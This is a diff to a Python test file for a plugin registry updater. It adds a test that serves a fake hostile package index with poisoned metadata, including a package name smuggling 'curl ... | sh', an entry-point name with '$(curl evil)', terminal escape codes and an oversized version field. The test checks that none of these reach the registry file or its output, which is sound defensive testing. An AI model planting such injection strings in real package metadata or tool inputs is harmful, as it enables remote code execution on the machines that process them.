@@ -12,6 +12,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from _hostile_index import HostileIndex, Project, hostile_wheel
 from _index_fixtures import index_files, pypi_url  # noqa: F401  (fixtures)
 from conftest import PluginEnv, make_env
 
@@ -387,8 +388,10 @@ def test_merge_never_writes_names_that_fail_pep_508() -> None:
     result = merge_registry(_doc(), found)
     assert [p["package"] for p in result.doc["plugins"]] == ["fastrtc-ok"]
     assert result.doc["plugins"][0]["summary"] == "clean[2J me"
-    assert len(result.skipped) == 2 and all("PEP 508" in line for line in result.skipped)
-    assert all("\x1b" not in line for line in result.skipped)
+    assert result.skipped == (
+        "a vad plugin of a package whose name is not a valid PEP 508 name",
+        "a vad plugin of fastrtc-x whose entry-point name is not a valid PEP 508 name",
+    )
     assert lint_bytes(dump_registry(result.doc).encode()).problems == ()
 
 
@@ -420,3 +423,74 @@ def test_names_failing_pep_508_are_never_handed_to_validate(tmp_path: Path) -> N
     assert result.validated == () and len(result.skipped) == 1
     assert "PEP 508" in result.skipped[0]
     assert evil not in path.read_text()
+
+
+@pytest.mark.slow
+def test_update_against_a_hostile_index_writes_only_clean_entries(tmp_path: Path) -> None:
+    """Lying metadata, hostile entry-point names and escape codes never reach registry.json."""
+    wheels = tmp_path / "wheels"
+    wheels.mkdir()
+
+    def meta(name: str, *lines: str) -> bytes:
+        return "\n".join(
+            ["Metadata-Version: 2.1", f"Name: {name}", "Version: 1.0", *lines, ""]
+        ).encode()
+
+    projects = [
+        Project(
+            "fastrtc-good-vad",
+            wheel=hostile_wheel(
+                wheels,
+                "fastrtc-good-vad",
+                "1.0",
+                metadata=meta("fastrtc-good-vad", "Summary: fine\x1b[2J and clean"),
+                entry_points=b"[fastrtc.vad]\ngood = fastrtc_good_vad:Model\n",
+            ),
+        ),
+        Project(
+            "fastrtc-liar",
+            wheel=hostile_wheel(
+                wheels,
+                "fastrtc-liar",
+                "1.0",
+                metadata=meta("fastrtc-liar; curl http://127.0.0.1:9/x | sh"),
+                entry_points=b"[fastrtc.vad]\nliar = fastrtc_liar:Model\n",
+            ),
+        ),
+        Project(
+            "fastrtc-shell",
+            wheel=hostile_wheel(
+                wheels,
+                "fastrtc-shell",
+                "1.0",
+                entry_points=b"[fastrtc.vad]\nx$(curl evil) = fastrtc_shell:Model\n",
+            ),
+        ),
+        Project(
+            "fastrtc-huge",
+            wheel=hostile_wheel(
+                wheels,
+                "fastrtc-huge",
+                "1.0",
+                metadata=meta("fastrtc-huge", "Requires-Python: >=1" + "0" * 5000),
+                entry_points=b"[fastrtc.vad]\nhuge = fastrtc_huge:Model\n",
+            ),
+        ),
+    ]
+    server = HostileIndex(projects)
+    try:
+        path = tmp_path / "registry.json"
+        path.write_text(dump_registry(merge_registry(_doc()).doc))
+        proc = _run_update(path, server.url, "--no-validate")
+    finally:
+        server.close()
+    assert proc.returncode == 0, proc.stderr
+    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr
+    text = path.read_text()
+    assert "curl" not in text and "\\u001b" not in text and "$(" not in text
+    assert "curl" not in proc.stdout + proc.stderr
+    entries = {p["name"]: p for p in json.loads(text)["plugins"]}
+    assert entries["good"]["summary"] == "fine[2J and clean"
+    assert "liar" not in entries and "huge" not in entries
+    assert set(entries) <= {"good", "x-curl-evil"} and "good" in entries
+    assert lint_bytes(path.read_bytes()).problems == ()
